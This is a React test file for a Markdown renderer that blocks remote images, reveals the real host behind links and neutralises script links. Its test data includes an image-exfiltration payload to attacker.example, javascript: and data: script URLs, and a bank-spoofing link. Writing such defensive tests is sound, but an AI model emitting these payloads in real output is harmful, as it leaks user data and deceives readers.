import { render, screen } from '@testing-library/react';
import { describe, expect, it } from 'vitest';
import '../test/jsdom-stubs';
import { Markdown } from './Markdown';

const PNG = 'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==';

function renderMarkdown(content: string) {
  return render(<Markdown content={content} />).container;
}

describe('Markdown (remote content)', () => {
  it('never renders a remote image: a link with its alt text and host instead', () => {
    const c = renderMarkdown('See ![the chart](https://attacker.example/x.png?data=secret) now.');
    expect(c.querySelector('img')).toBeNull();
    expect(c.innerHTML).not.toMatch(/background|preload/i);
    const link = screen.getByRole('link');
    expect(link).toHaveAttribute('href', 'https://attacker.example/x.png?data=secret');
    expect(link).toHaveAttribute('rel', 'noopener noreferrer nofollow');
    expect(link).toHaveAttribute('target', '_blank');
    expect(link).toHaveTextContent('the chart (attacker.example)');
    expect(link.textContent).toContain('🖼');
  });

  it('treats protocol-relative and other-scheme images as remote; an image without a usable URL is text', () => {
    const c = renderMarkdown('![a](//attacker.example/a.png) ![b](http://localhost.attacker.example/b.png) ![c](javascript:alert(1))');
    expect(c.querySelector('img')).toBeNull();
    expect(screen.getAllByRole('link').map((a) => a.textContent)).toEqual(['🖼 a (attacker.example)', '🖼 b (localhost.attacker.example)']);
    expect(c).toHaveTextContent('c');
  });

  it('renders same-origin, relative and data:image images', () => {
    const origin = window.location.origin;
    const c = renderMarkdown(`![own](${origin}/static/a.png) ![rel](/static/b.png) ![dot](c.png) ![pixel](${PNG})`);
    const imgs = Array.from(c.querySelectorAll('img'));
    expect(imgs.map((i) => i.getAttribute('alt'))).toEqual(['own', 'rel', 'dot', 'pixel']);
    expect(imgs[0]).toHaveAttribute('src', `${origin}/static/a.png`);
    // Resolved against the page: the URL checked is the URL used.
    expect(imgs[1]).toHaveAttribute('src', `${origin}/static/b.png`);
    expect(imgs[3].getAttribute('src')).toMatch(/^data:image\/png;base64,/);
    expect(screen.queryByRole('link')).not.toBeInTheDocument();
  });

  it('links open in a new tab with rel noopener noreferrer nofollow and show their destination host', () => {
    renderMarkdown('[click here](https://evil.example/login) and [docs.example](https://docs.example/a) and https://plain.example/x');
    const [click, docs, plain] = screen.getAllByRole('link');
    for (const a of [click, docs, plain]) {
      expect(a).toHaveAttribute('rel', 'noopener noreferrer nofollow');
      expect(a).toHaveAttribute('target', '_blank');
    }
    expect(click).toHaveAttribute('href', 'https://evil.example/login');
    expect(click).toHaveTextContent(/^click here \(evil\.example\)$/);
    expect(click).toHaveAttribute('title', 'https://evil.example/login');
    // The text already names the destination: no host repeated.
    expect(docs).toHaveTextContent(/^docs\.example$/);
    expect(plain).toHaveTextContent(/^https:\/\/plain\.example\/x$/);
  });

  it('a link whose text names another host shows the real one', () => {
    renderMarkdown('[https://bank.example/login](https://evil.example/login)');
    expect(screen.getByRole('link')).toHaveTextContent('https://bank.example/login (evil.example)');
  });

  it('javascript:, vbscript: and data: links are plain text, not links', () => {
    const c = renderMarkdown('[one](javascript:alert(1)) [two](vbscript:msgbox) [three](data:text/html,<script>alert(1)</script>)');
    expect(c.querySelector('a')).toBeNull();
    expect(c).toHaveTextContent('one');
    expect(c).toHaveTextContent('two');
    expect(c).toHaveTextContent('three');
  });

  it('a remote image inside a link is text (no nested link), and the link shows its host', () => {
    const c = renderMarkdown('[![badge](https://attacker.example/b.svg)](https://site.example/)');
    expect(c.querySelector('img')).toBeNull();
    const link = screen.getByRole('link');
    expect(link).toHaveAttribute('href', 'https://site.example/');
    expect(link.querySelector('a')).toBeNull();
    expect(link).toHaveTextContent('🖼 badge (attacker.example) (site.example)');
  });

  it('same-origin links show no host; mailto links show the address when the text differs', () => {
    const origin = window.location.origin;
    renderMarkdown(`[settings](/settings) [write to us](mailto:help@agentic.example) <help@agentic.example>`);
    const [settings, write, plain] = screen.getAllByRole('link');
    expect(settings).toHaveAttribute('href', `${origin}/settings`);
    expect(settings).toHaveTextContent(/^settings$/);
    expect(settings).toHaveAttribute('rel', 'noopener noreferrer nofollow');
    expect(write).toHaveTextContent(/^write to us \(help@agentic\.example\)$/);
    expect(plain).toHaveTextContent(/^help@agentic\.example$/);
  });

  it('never renders a remote image while it streams in', () => {
    const { container, rerender } = render(<Markdown content="Look: ![x](https://attacker.example/p" streaming />);
    expect(container.querySelector('img')).toBeNull();
    rerender(<Markdown content="Look: ![x](https://attacker.example/p.png?d=1)" streaming />);
    expect(container.querySelector('img')).toBeNull();
    rerender(<Markdown content="Look: ![x](https://attacker.example/p.png?d=1) done." />);
    expect(container.querySelector('img')).toBeNull();
    expect(screen.getByRole('link')).toHaveTextContent('x (attacker.example)');
  });
});
